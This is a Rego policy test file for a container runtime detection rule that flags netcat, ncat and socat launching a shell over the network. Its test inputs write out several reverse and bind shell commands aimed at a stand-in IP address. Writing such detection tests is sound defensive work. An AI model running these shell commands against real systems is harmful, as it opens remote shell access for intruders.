package palisade.runtime.netcat_exec_test

import data.lib.runtime_input.exec
import data.lib.runtime_input.host
import data.lib.runtime_input.shell_parent
import data.palisade.runtime.netcat_exec as rule

test_nc_e_denied if {
	some r in rule.deny with input as exec("/bin/nc.traditional", ["nc", "198.51.100.20", "4444", "-e", "/bin/sh"], shell_parent)
	r.msg == "/bin/nc.traditional in container \"web\" (image nginx:1.27) was started to run a program over the network, by /bin/sh: nc 198.51.100.20 4444 -e /bin/sh"
}

test_combined_flags_and_long_options_denied if {
	count(rule.deny) == 1 with input as exec("/usr/bin/nc", ["nc", "-lvpe", "/bin/sh"], shell_parent)
	count(rule.deny) == 1 with input as exec("/usr/bin/ncat", ["ncat", "--sh-exec", "sh -i", "198.51.100.20", "443"], shell_parent)
}

test_socat_exec_denied if {
	count(rule.deny) == 1 with input as exec("/usr/bin/socat", ["socat", "TCP:198.51.100.20:443", "EXEC:/bin/bash,pty,stderr"], shell_parent)
}

test_host_denied if {
	count(rule.deny) == 1 with input as host(exec("/usr/bin/nc", ["nc", "-e", "/bin/sh", "198.51.100.20", "4444"], {}))
}

test_plain_netcat_allowed if {
	count(rule.deny) == 0 with input as exec("/usr/bin/nc", ["nc", "-zv", "db", "5432"], shell_parent)
	count(rule.deny) == 0 with input as exec("/usr/bin/socat", ["socat", "TCP-LISTEN:8080,fork", "TCP:backend:80"], shell_parent)
}

test_other_program_allowed if {
	count(rule.deny) == 0 with input as exec("/usr/bin/grep", ["grep", "-e", "x"], shell_parent)
}
